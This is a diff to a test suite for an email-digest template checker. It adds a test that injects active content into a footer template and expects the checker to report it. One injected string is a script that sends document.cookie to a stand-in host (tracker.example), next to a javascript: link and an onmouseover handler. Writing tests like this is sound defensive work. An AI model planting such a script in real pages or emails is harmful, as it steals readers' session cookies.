@@ -62,6 +62,7 @@ describe('watch-digest check', () => {
     expect(report.findings.find((f) => f.rule === 'link')!.message).toBe('insecure http: link http://example.com/old');
   });
 
+  // Five runs of the CLI: a generous limit for a busy machine.
   it('errors when the unsubscribe link is missing, the preheader is empty or issue.mjml is invalid', async () => {
     const noLink = await checked({}, [], {}, async (dir) => {
       await cp(path.join(PROJECT_ROOT, 'templates'), path.join(dir, 'templates'), { recursive: true });
@@ -81,7 +82,23 @@ describe('watch-digest check', () => {
     });
     expect(broken.run.code).toBe(1);
     expect(rules(broken.report).sort()).toEqual(['error mjml', 'error preheader']);
-  });
+  }, 120_000);
+
+  it('errors on active content a template emits: a script, an event handler, a javascript: link', async () => {
+    const { run, report } = await checked({}, [], {}, async (dir) => {
+      await cp(path.join(PROJECT_ROOT, 'templates'), path.join(dir, 'templates'), { recursive: true });
+      const footer = path.join(dir, 'templates', 'partials', 'footer.mjml');
+      const active = '<mj-raw><script>fetch("https://tracker.example/?" + document.cookie)</script></mj-raw>\n<mj-section><mj-column><mj-text><a href="javascript:void(0)" onmouseover="steal()">More</a></mj-text></mj-column></mj-section>\n';
+      await writeFile(footer, active + (await readFile(footer, 'utf8')));
+      expect((await runCli(['compose', '--week', WEEK], dir)).code).toBe(0);
+    });
+    expect(run.code).toBe(1);
+    expect(report.findings.filter((f) => f.rule === 'active-content').map((f) => f.message).sort()).toEqual([
+      '<script> element: email cannot carry active content',
+      'event handler onmouseover="steal()"',
+      'script URL javascript:void(0)',
+    ]);
+  }, 120_000);
 
   it('errors on an unsubscribe URL that is not https', async () => {
     const { run, report } = await checked({ 'watch-digest.config.json': JSON.stringify({ ...CONFIG, unsubscribe: { url: 'http://example.org/u?t={token}' } }) });
